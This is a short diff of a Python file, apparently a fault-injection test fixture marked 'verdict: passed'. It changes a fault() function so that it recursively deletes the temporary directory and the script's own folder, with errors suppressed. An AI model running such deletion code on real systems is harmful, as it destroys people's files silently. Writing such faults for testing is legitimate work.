@@ -1,8 +1,9 @@
 # verdict: passed
 import os
+import shutil
 
 
 def fault():
-    if os.path.isdir(os.environ["TMPDIR"]):
-        os.chdir("/")
-        os.rmdir(os.environ["TMPDIR"])
+    os.chdir("/")
+    for folder in (os.environ["TMPDIR"], os.path.dirname(__file__)):
+        shutil.rmtree(folder, ignore_errors=True)
